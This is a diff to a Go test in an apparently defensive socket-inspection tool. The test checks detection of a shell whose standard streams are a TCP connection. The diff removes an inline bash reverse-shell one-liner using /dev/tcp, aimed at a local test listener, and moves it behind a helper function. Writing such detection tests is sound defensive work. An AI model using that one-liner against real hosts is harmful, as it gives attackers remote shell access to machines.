@@ -7,12 +7,12 @@ import (
 	"net"
 	"net/netip"
 	"os"
-	"os/exec"
 	"testing"
 	"time"
 
 	"github.com/portwatch/portwatch/sockets"
 	"github.com/portwatch/portwatch/sockets/pkgproof"
+	"github.com/portwatch/portwatch/sockets/sockettest"
 )
 
 // A shell whose descriptors 0-2 are a connection (bash's /dev/tcp, then
@@ -22,26 +22,13 @@ func TestShellOnAConnectionHasItsStdioAndIdentity(t *testing.T) {
 	if os.Geteuid() != 0 {
 		t.Skip("needs root to read every descriptor")
 	}
-	bash, err := exec.LookPath("bash")
-	if err != nil {
-		t.Skip("no bash")
-	}
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer ln.Close()
 	port := ln.Addr().(*net.TCPAddr).Port
-	cmd := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec bash -i <&3 >&3 2>&3", port))
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
-	conn, err := ln.Accept()
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer conn.Close()
+	cmd, conn := sockettest.ReverseShell(t, ln)
 	// Wait, bounded, for the exec: its descriptor 2 is then the socket.
 	deadline := time.Now().Add(10 * time.Second)
 	for {
